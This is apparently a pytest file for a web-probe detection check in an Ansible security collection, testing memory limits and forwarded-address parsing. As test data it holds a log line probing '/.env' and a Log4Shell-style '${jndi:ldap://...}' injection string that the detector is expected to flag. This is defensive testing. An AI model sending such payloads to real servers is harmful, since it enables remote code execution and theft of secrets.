# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Logs and configurations that were made to blind the check."""

from __future__ import annotations

import os
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.bottomup.security.plugins.module_utils.checks import web_probes, web_probes_seen
from ansible_collections.bottomup.security.plugins.module_utils.checks.web_probes_address import Clients, networks
from ansible_collections.bottomup.security.plugins.module_utils.checks.web_probes_judge import Judge
from ansible_collections.bottomup.security.plugins.module_utils.host.machine import Machine

NOW = 1795327200  # 2026-11-22T06:00:00Z
LINE = b'192.0.2.7 - - [22/Nov/2026:05:00:00 +0000] "GET /.env HTTP/1.1" 200 153 "-" "curl/7.88.1"\n'


def run(root: Path, **options: Any) -> dict[str, Any]:
    return web_probes.run(options, Machine(os.fsencode(root), now=NOW))


def put(root: Path, path: str, content: bytes) -> Path:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(content)
    os.utime(place, (NOW, NOW))
    return place


@pytest.mark.parametrize("memory", [web_probes_seen.Requests, web_probes_seen.Headers])
def test_long_requests_that_are_all_different_fill_no_memory(memory: type, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(web_probes_seen, "BYTES_LIMIT", 1 << 20)
    seen = memory(Judge())
    seen.verdict(b"GET / HTTP/1.1")  # the tables are made
    tracemalloc.start()
    try:
        for number in range(200):
            names = [b"GET /" + b"abcdefghij"[(one := number * 10 + place) % 10 :][:1] * (8000 + one) + b" HTTP/1.1" for place in range(10)]
            seen.judge(seen.fresh(set(names)))
        kept = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
    assert kept < 8 << 20  # of 18 MB
    assert seen.verdict(b"GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1")


def test_a_long_forwarded_address_does_not_hide_the_one_that_the_proxy_added() -> None:
    clients = Clients(networks(["10.0.0.0/8"])[0])
    assert clients.client(b"10.0.0.3", b"203.0.113.1, " * 500 + b"198.51.100.9") == "198.51.100.9"
